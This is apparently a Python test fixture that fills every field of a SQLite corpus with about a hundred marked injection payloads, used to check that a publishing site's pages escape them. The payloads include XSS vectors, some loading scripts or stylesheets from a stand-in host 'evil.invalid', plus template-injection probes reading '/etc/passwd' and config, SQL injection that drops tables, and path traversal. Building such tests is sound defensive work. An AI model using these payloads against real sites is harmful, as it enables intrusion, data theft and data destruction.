"""A hundred texts made to hurt whoever shows them, and a corpus that has one in every field of every table.

Each would set `xss` in the window, open a dialog or ask another host; each carries a mark of its own (`〖17〗`), by which what
became of it is found in a page.
"""

from __future__ import annotations

import json
import sqlite3
from collections.abc import Callable
from contextlib import closing
from pathlib import Path
from urllib.parse import quote

from pipelines import schema
from pipelines.publish import search
from pipelines.schema.model import Column
from pipelines.schema.summaries import FILLED

RUN = "window.xss=1"

_SCRIPTS = (
    "<script>{run}</script>",
    "<SCRIPT>{run}</SCRIPT >",
    "<script\n>{run}</script\t>",
    "<scr<script>ipt>{run}</scr</script>ipt>",
    "<script src=//evil.invalid/x.js></script>",
    "<script src=data:text/javascript,{run}></script>",
    "<script type=module>{run}</script>",
    "</title><script>{run}</script>",
    "</textarea><script>{run}</script>",
    "</script><script>{run}</script>",
    "</style><script>{run}</script>",
    "--><script>{run}</script>",
    "]]><script>{run}</script>",
    '"><script>{run}</script>',
    "'><script>{run}</script>",
    "<noscript><p title='</noscript><script>{run}</script>'>",
    "<template><script>{run}</script></template>",
    "<xmp><script>{run}</script></xmp>",
    "<!--><script>{run}</script>-->",
    "&lt;script&gt;{run}&lt;/script&gt;",
    "&#60;script&#62;{run}&#60;/script&#62;",
    "\\u003cscript\\u003e{run}\\u003c/script\\u003e",
    "%3Cscript%3E{run}%3C/script%3E",
    "＜script＞{run}＜/script＞",
    "+ADw-script+AD4-{run}+ADw-/script+AD4-",
)
_ATTRIBUTES = (
    "<img src=x onerror={run}>",
    "<img src=x onerror='{run}'>",
    "<IMG SRC=x ONERROR={run}>",
    "<img/src=x/onerror={run}>",
    "<img src=x:x onerror\n=\n{run}>",
    "<img src='http://evil.invalid/beacon.gif'>",
    "<body onload={run}>",
    "<input autofocus onfocus={run}>",
    "<details open ontoggle={run}>",
    "<select autofocus onfocus={run}>",
    "<video><source onerror={run}></video>",
    "<audio src=x onerror={run}>",
    "<marquee onstart={run}>",
    "<a href=javascript:{run}>x</a>",
    "<a href='java\tscript:{run}'>x</a>",
    "<a href='&#106;avascript:{run}'>x</a>",
    "<form action=javascript:{run}><input type=submit>",
    "<button formaction=javascript:{run}>x</button>",
    "<base href=//evil.invalid/>",
    "<meta http-equiv=refresh content='0;url=//evil.invalid/'>",
    "<iframe src=javascript:{run}></iframe>",
    "<iframe srcdoc='<script>parent.{run}</script>'></iframe>",
    "<object data=javascript:{run}></object>",
    "<embed src=javascript:{run}>",
    '" onmouseover="{run}" x="',
    "' onmouseover='{run}' x='",
    '" autofocus onfocus="{run}',
    "` onerror=`{run}`",
    "<isindex action=javascript:{run}>",
    "<link rel=stylesheet href=//evil.invalid/x.css>",
)
_SVG = (
    "<svg onload={run}>",
    "<svg><script>{run}</script></svg>",
    "<svg><script href=data:,{run} /></svg>",
    "<svg><animate onbegin={run} attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:{run}><text>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload={run}>#x'></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>{run}</script>'></foreignObject></svg>",
    "<svg><style><img src=x onerror={run}></style></svg>",
    "<math><mtext></mtext><mglyph><style><img src=x onerror={run}></style>",
    "<math href=javascript:{run}>x</math>",
)
_CSS = (
    "<style>body{{display:none}}</style>",
    "<style>@import '//evil.invalid/x.css';</style>",
    "<p style='position:fixed;inset:0;background:red'>x</p>",
    "<p style=background:url(//evil.invalid/x.png)>x</p>",
    "<style>*{{background:url(//evil.invalid/x.png)}}</style>",
    "}} body {{ display: none }} /*",
    "expression({run})",
    "\\3c style\\3e",
)
_DIRECTION = (
    "\u202e答复\u202d",
    "\u2067答复\u2069",
    "\u202b\u202e{run}",
    "\u200f\u200e<script>{run}</script>",
    "\u2066\u202e\u2066\u202e",
    "\u061c\u200b\u200c\u200d\ufeff",
)
_TEMPLATES = (
    "{{{{ 7*7 }}}}",
    "{{% for x in range(9) %}}x{{% endfor %}}",
    "{{{{ config.items() }}}}",
    "{{{{ ''.__class__.__mro__ }}}}",
    "{{% include '/etc/passwd' %}}",
    "${{7*7}}",
    "<%= 7*7 %>",
    "#{{7*7}}",
    "{{{{constructor.constructor('{run}')()}}}}",
    "%(x)s %s %n {{0}} {{x.y}}",
)
_SQL = (
    "'; drop table replies; --",
    '" or ""="',
    "' union select sql from sqlite_master --",
    "1) or (1=1",
    "'||(select body_text from replies)||'",
    "]; drop view changes; [",
    "`; attach database '/tmp/x' as x; --",
    "%' or '%'='",
)
_OTHERS = (
    "javascript:{run}",
    "data:text/html,<script>{run}</script>",
    "../../../../etc/passwd",
)

SHARED = "共同的词"
"""Stands in the text of every reply."""
PLACES = (
    "/",
    "/feeds",
    "/missing",
    "/charts",
    "/changes?kind=新增",
    f"/search?q={quote(SHARED)}",
    f"/search?q={quote(SHARED)}&page=3",
    f"/corpus/replies?_search={quote(SHARED)}&_size=100",
    "/corpus/replies?_layout=table&_size=100",
)
"""Pages that show the texts of many replies."""

PAYLOADS = tuple(
    text.format(run=f"{RUN};'〖{number}〗'") if "{run}" in text or "{{" in text or "}}" in text else text
    for number, text in enumerate(
        (*_SCRIPTS, *_ATTRIBUTES, *_SVG, *_CSS, *_DIRECTION, *_TEMPLATES, *_SQL, *_OTHERS)
    )
)
"""Each is followed by its mark in the corpus: `marked(n)`."""

FORMS: dict[tuple[str, str], Callable[[str], str | None]] = {
    ("replies", "co_handlers"): lambda text: json.dumps([text], ensure_ascii=False),
    ("revisions", "changed"): lambda text: json.dumps(
        {"title": {"old": text, "new": text}}, ensure_ascii=False
    ),
    ("revisions", "diff"): lambda text: json.dumps(
        [{"op": op, "text": text} for op in ("kept", "removed", "added")], ensure_ascii=False
    ),
    ("agencies", "successors"): lambda _: None,
    # Dates are computed with when the corpus is made; both have a form or are not there.
    ("replies", "signed_on"): lambda _: "2024-07-23",
    ("replies", "published_at"): lambda _: "2024-09-02T10:33",
}
"""Columns that are no plain text: how a payload gets into them, if it can."""
KEYS = {"replies": "r", "proposals": "p", "policies": "d"}
"""Ids are ours and never what a page printed."""


def marked(number: int) -> str:
    """A payload with its mark."""
    return f"{PAYLOADS[number]} 〖{number}〗"


def reply_id(number: int) -> str:
    return f"r{number:011d}"


def build(path: Path) -> Path:
    """A corpus in which reply, agency, site, policy … n is called payload n, whatever field is asked for."""
    with closing(sqlite3.connect(path)) as conn:
        schema.create(conn)
        for table in schema.TABLES:
            if table.name in FILLED or table.hidden:
                continue
            for number in range(len(PAYLOADS)):
                row = {column.name: _value(table.name, column, number, table.pk) for column in table.columns}
                conn.execute(
                    f"insert into {table.name} ({', '.join(f'[{name}]' for name in row)})"
                    f" values ({', '.join('?' * len(row))})",
                    tuple(row.values()),
                )
        for name, select in FILLED.items():
            conn.execute(f"insert into {name} {select}")
        search.build(conn)
        conn.commit()
    return path


def _value(table: str, column: Column, number: int, pk: tuple[str, ...]) -> object:
    if column.name == "search_id":
        return number + 1
    if column.type == "INTEGER":
        return (
            1 if column.name in ("number", "position", "paragraph", "level") and "reply_id" in pk else number
        )
    if (table, column.name) in FORMS:
        return FORMS[table, column.name](marked(number))
    if "JSON 数组" in column.description:
        return json.dumps([marked(number)], ensure_ascii=False)
    if column.references:
        other, _, key = column.references.partition(".")
        return _key(other, key, number)
    if (column.name,) == pk:
        return _key(table, column.name, number)
    if column.values:
        return sorted(column.values)[number % len(column.values)]
    if table == "replies" and column.name == "body_text":
        return f"{SHARED}。\n{marked(number)}\n{marked(number)}"
    return marked(number)


def _key(table: str, column: str, number: int) -> str:
    if table in KEYS and column == "id":
        return f"{KEYS[table]}{number:011d}"
    return marked(number)
